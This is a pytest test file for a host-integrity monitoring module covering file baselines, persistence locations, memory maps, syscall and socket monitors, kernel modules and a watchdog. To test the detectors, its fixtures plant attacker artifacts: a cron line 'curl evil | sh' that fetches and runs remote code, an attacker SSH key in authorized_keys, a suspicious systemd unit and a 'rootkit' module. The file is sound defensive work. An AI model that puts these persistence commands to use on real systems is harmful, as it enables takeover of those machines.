"""S3 extensions (``security/integrity_ext.py``): file-tree and persistence baselines, code / memory-map checks,
system-call and timing monitors, socket / module / device monitors, check-to-use guard, measurement log, watchdog."""
import hashlib
import os

import pytest

from sneppx_alg_b200.security import crypto
from sneppx_alg_b200.security import integrity_ext as ix


def test_file_tree_baseline_scan_and_signed_form(tmp_path):
    root = tmp_path / "app"
    (root / "bin").mkdir(parents=True)
    (root / "bin" / "tool").write_bytes(b"\x7fELF....")
    (root / "conf.yaml").write_text("a: 1\n")
    (root / "cache.tmp").write_text("x")
    os.symlink("conf.yaml", root / "link")
    fs = ix.FsIntegrity(str(root), exclude=["*.tmp"])
    assert fs.snapshot() == 3 and fs.scan() == []
    (root / "conf.yaml").write_text("a: 2\n")
    os.chmod(root / "bin" / "tool", 0o777)
    (root / "bin" / "dropper").write_bytes(b"evil")
    (root / "cache.tmp").write_text("changed but excluded")
    os.remove(root / "link")
    os.symlink("bin/tool", root / "link")
    kinds = {(c.kind, c.path) for c in fs.scan()}
    assert kinds == {("added", "bin/dropper"), ("modified", "conf.yaml"), ("mode", "bin/tool"), ("modified", "link")}
    assert [c.detail for c in fs.scan() if c.kind == "mode"][0].endswith("-> 777")
    fs.accept("conf.yaml")
    assert ("modified", "conf.yaml") not in {(c.kind, c.path) for c in fs.scan()}
    os.remove(root / "bin" / "tool")
    assert ("removed", "bin/tool") in {(c.kind, c.path) for c in fs.scan()}
    seed = os.urandom(32)
    fs.save(str(tmp_path / "base.json"), seed)
    back = ix.FsIntegrity.load(str(tmp_path / "base.json"), crypto.ed25519_public_key(seed))
    assert back.baseline == fs.baseline and {(c.kind, c.path) for c in back.scan()} == {(c.kind, c.path) for c in fs.scan()}
    with pytest.raises(ValueError, match="signature"):
        ix.FsIntegrity.load(str(tmp_path / "base.json"), crypto.ed25519_public_key(os.urandom(32)))
    fs.accept()
    assert fs.scan() == []


def test_persistence_locations(tmp_path):
    root = tmp_path / "rootfs"
    for d in ("etc/cron.d", "etc/systemd/system", "home/ann/.ssh", "etc/app", "var/log"):
        (root / d).mkdir(parents=True)
    (root / "etc/cron.d/backup").write_text("0 3 * * * backup\n")
    (root / "etc/app/settings").write_text("not a persistence location")
    mon = ix.PersistenceMonitor(str(root))
    assert mon.snapshot() == 1 and mon.findings() == []
    (root / "etc/cron.d/miner").write_text("* * * * * curl evil | sh\n")
    (root / "home/ann/.ssh/authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    (root / "etc/systemd/system/updater.service").write_text("[Service]\nExecStart=/tmp/x\n")
    (root / "etc/app/settings").write_text("changed, still ignored")
    (root / "var/log/syslog").write_text("ignored")
    got = {(c.kind, c.path, why) for c, why in mon.findings()}
    assert got == {("added", "etc/cron.d/miner", "scheduled job"), ("added", "home/ann/.ssh/authorized_keys", "remote login key"),
                   ("added", "etc/systemd/system/updater.service", "service unit")}


MAPS = """\
55d0c8a00000-55d0c8a2c000 r--p 00000000 fd:01 1234   /usr/bin/python3.12
55d0c8a2c000-55d0c8cd4000 r-xp 0002c000 fd:01 1234   /usr/bin/python3.12
7f1a10000000-7f1a10021000 rw-p 00000000 00:00 0
7f1a2c000000-7f1a2c400000 rwxp 00000000 00:00 0
7f1a30000000-7f1a30010000 r-xp 00000000 00:00 0
7f1a40000000-7f1a40200000 r-xp 00000000 fd:01 999    /tmp/.hidden/payload.so (deleted)
7f1a50000000-7f1a50100000 r-xp 00000000 fd:01 77     /usr/lib/libfoo.so.1
7ffc1b5e0000-7ffc1b5e2000 r-xp 00000000 00:00 0      [vdso]
"""


def handler(x):
    return x + 1


def test_code_and_memory_map_checks(tmp_path):
    regions = ix.parse_maps(MAPS)
    assert len(regions) == 8 and regions[1].perms == "r-xp" and regions[1].end - regions[1].start == 0x2a8000
    found = ix.MemoryMapScanner().scan(MAPS)
    assert [(why, hex(r.start)) for why, r in found] == [("writable and executable", "0x7f1a2c000000"),
                                                          ("executable anonymous memory", "0x7f1a30000000"),
                                                          ("code from a deleted file", "0x7f1a40000000")]
    assert ix.MemoryMapScanner().scan() is not None                            # the live process parses too
    import types
    mod = types.SimpleNamespace(handler=handler)
    det = ix.CodeTamperDetector()
    det.register_function("handler", lambda: mod.handler)
    lib = tmp_path / "libdemo.so.1"
    lib.write_bytes(b"\x7fELF original")
    assert det.register_libraries(f"7f00-7f10 r-xp 00000000 fd:01 5 {lib}\n7f20-7f30 r-xp 0 0 0 /nonexistent/libx.so\n") == 1
    assert det.check() == []
    mod.handler = lambda x: x + 2                                              # hot-patched
    lib.write_bytes(b"\x7fELF trojaned")
    assert det.check() == ["function handler", f"library {lib}"]
    mod.handler = handler
    os.remove(lib)
    assert det.check() == [f"library {lib}"]
    with pytest.raises(TypeError):
        det.register_function("builtin", lambda: len)


def test_syscall_and_timing_monitors():
    now = [0.0]
    normal = [["open", "read", "read", "close"] * 5, ["open", "read", "write", "close"] * 3, ["socket", "connect", "write", "read", "close"]]
    mon = ix.SyscallMonitor(n=3, allowed={"open", "read", "write", "close", "socket", "connect", "mmap"}, limits={"connect": 2},
                            window_s=1.0, clock=lambda: now[0])
    assert mon.train(normal) > 5
    assert mon.score(["open", "read", "read", "close", "open", "read"]) == 0.0
    attack = ["open", "read", "mmap", "mprotect", "execve"]
    assert mon.score(attack) == 1.0 and mon.score(["open", "read"]) == 0.0
    reasons = [mon.observe(c) for c in attack]
    assert reasons[0] == [] and reasons[1] == [] and reasons[2] == ["unseen sequence open > read > mmap"]
    assert reasons[4][0] == "not in the allow-list" and len(reasons[4]) == 2
    mon2 = ix.SyscallMonitor(limits={"connect": 2}, clock=lambda: now[0])
    assert [bool(mon2.observe("connect")) for _ in range(3)] == [False, False, True]
    now[0] += 2.0
    assert mon2.observe("connect") == [] and mon2.frequency() == {"connect": 1.0}
    t = [0.0]
    cost = [1.0]

    def clock():
        return t[0]

    def work():
        t[0] += cost[0]

    tm = ix.TimingMonitor(work, threshold=5.0, calibration_runs=5, clock=clock)
    assert tm.calibrate() == 1.0 and tm.check() == (False, 1.0)
    cost[0] = 20.0                                                             # as if every instruction trapped
    assert tm.check() == (True, 20.0) and tm.history == [1.0, 20.0]
    live = ix.TimingMonitor(threshold=50.0)
    assert live.check()[0] is False


TCP = """\
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 11 1 0 100 0 0 10 0
   1: 0100007F:1F90 0100007F:D431 01 00000000:00000000 00:00000000 00000000  1000        0 12 1 0 20 4 30 10 -1
   2: 0A00000A:C350 5DB8D822:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 13 1 0 20 4 30 10 -1
"""
TCP_AFTER = TCP + "   3: 00000000:7A69 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 14 1 0 100 0 0 10 0\n"


def test_socket_module_and_device_monitors():
    socks = ix.parse_proc_net_tcp(TCP)
    assert socks[0] == {"local": "127.0.0.1", "local_port": 8080, "remote": "0.0.0.0", "remote_port": 0, "state": "LISTEN", "uid": 1000}
    assert (socks[2]["remote"], socks[2]["remote_port"], socks[2]["state"]) == ("34.216.184.93", 443, "ESTABLISHED")
    v6 = ix._proc_addr("0000000000000000FFFF00000100007F:0050")
    assert v6 == ("::ffff:7f00:1", 80) and ix._proc_addr("00000000000000000000000001000000:0016") == ("::1", 22)
    text = [TCP]
    mon = ix.NetConnMonitor(allowed_networks=["127.0.0.0/8", "10.0.0.0/8"], reader=lambda: text[0])
    assert mon.baseline() == {8080}
    assert [(why, s["remote"]) for why, s in mon.scan()] == [("peer outside the allowed networks", "34.216.184.93")]
    text[0] = TCP_AFTER
    assert ("new listener", 31337) in [(why, s["local_port"]) for why, s in mon.scan()]
    wide = ix.NetConnMonitor(allowed_networks=["0.0.0.0/0"], reader=lambda: TCP)
    wide.baseline()
    assert wide.scan() == []
    mods = ["nvidia 123 0 - Live 0x0\next4 456 1 - Live 0x0\n"]
    taint = ["4097\n"]
    k = ix.KernelObjectMonitor(lambda: mods[0], lambda: taint[0])
    assert k.baseline() == 2 and k.scan() == {"loaded": [], "unloaded": []}
    mods[0] = "nvidia 123 0 - Live 0x0\nrootkit 9 0 - Live 0x0\n"
    assert k.scan() == {"loaded": ["rootkit"], "unloaded": ["ext4"]} and k.taint() == ["proprietary module", "out-of-tree module"]
    devs = [["usb1", "1-0:1.0"]]
    d = ix.DeviceMonitor(lambda: devs[0])
    assert d.baseline() == 2
    devs[0] = ["usb1", "1-0:1.0", "1-3"]
    assert d.scan() == {"inserted": ["1-3"], "removed": []} and ix.DeviceMonitor().baseline() >= 0


def test_toctou_guard_measurement_log_and_watchdog(tmp_path):
    f = tmp_path / "config"
    f.write_text("trusted")
    guard = ix.ToctouGuard(with_digest=True)
    tok = guard.check(str(f))
    with guard.open_verified(tok, "r") as fh:
        assert fh.read() == "trusted"
    os.rename(f, tmp_path / "config.old")
    (tmp_path / "config").write_text("swapped")                                # a different inode under the same name
    with pytest.raises(ix.ToctouError, match="changed between check and use"):
        guard.open_verified(tok)
    os.remove(tmp_path / "config")
    os.symlink(tmp_path / "config.old", tmp_path / "config")
    with pytest.raises(OSError):
        guard.open_verified(tok)                                               # the final link is not followed
    with pytest.raises(ix.ToctouError, match="regular"):
        guard.check(str(tmp_path / "config"))
    assert guard.checks == 1 and guard.mismatches == 1
    ima = ix.ImaLog()
    boot = tmp_path / "boot.bin"
    boot.write_bytes(b"kernel image")
    ref = {str(boot): hashlib.sha256(b"kernel image").hexdigest(), "/usr/bin/tool": hashlib.sha256(b"tool v1").hexdigest()}
    assert ima.appraise(str(boot), ref) and ima.appraise("/usr/bin/tool", ref, b"tool v1") and not ima.appraise("/usr/bin/tool", ref, b"tool v2")
    ima.measure(str(boot))                                                     # unchanged: not measured again
    assert ima.measurement_count() == 3 and ix.ImaLog.verify(ima.entries, ima.aggregate)
    assert not ix.ImaLog.verify(ima.entries[:2], ima.aggregate) and not ix.ImaLog.verify(ima.entries[::-1], ima.aggregate)
    assert ima.export().count("\n") == 3 and ima.export().splitlines()[0].endswith(str(boot))
    now = [0.0]
    wd = ix.Watchdog(grace=2.0, clock=lambda: now[0])
    wd.register("fs", 10.0)
    wd.register("net", 1.0)
    now[0] = 1.5
    assert wd.missed() == []
    wd.heartbeat("net")
    now[0] = 4.0
    assert wd.missed() == ["net"] and wd.status()["fs"]["ok"] and not wd.status()["net"]["ok"] and wd.status()["net"]["beats"] == 1
    wd.heartbeat("net")
    now[0] = 25.0
    assert wd.missed() == ["fs", "net"] and wd.unregister("net") and not wd.unregister("net")
    with pytest.raises(KeyError):
        wd.heartbeat("net")
